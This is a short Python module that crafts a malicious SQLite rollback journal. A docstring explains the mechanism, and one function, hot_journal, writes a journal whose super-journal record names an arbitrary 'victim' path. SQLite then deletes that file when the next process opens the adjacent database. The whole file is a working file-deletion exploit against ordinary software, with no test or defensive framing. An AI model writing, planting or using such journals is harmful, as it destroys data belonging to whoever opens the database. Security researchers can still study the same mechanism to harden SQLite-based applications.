"""Rollback journals that make SQLite delete a file: https://sqlite.org/fileformat.html, section 3.

A journal whose last record names a super-journal is rolled back by the next process that opens
the database; SQLite then deletes the super-journal, whatever file that is.
"""

from __future__ import annotations

import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512
PAGE = 4096
LOCK_PAGE = 0x4000_0000 // PAGE + 1


def hot_journal(victim: Path, pages: int = 1) -> bytes:
    """A journal that changes no page, and names the file as its super-journal.

    ``pages``: how long the database was before.
    """
    header = MAGIC + struct.pack(">5I", 0, 1, pages, SECTOR, PAGE)
    name = str(victim).encode()
    last = struct.pack(">I", LOCK_PAGE) + name + struct.pack(">II", len(name), sum(name))
    return header.ljust(SECTOR, b"\0") + last + MAGIC
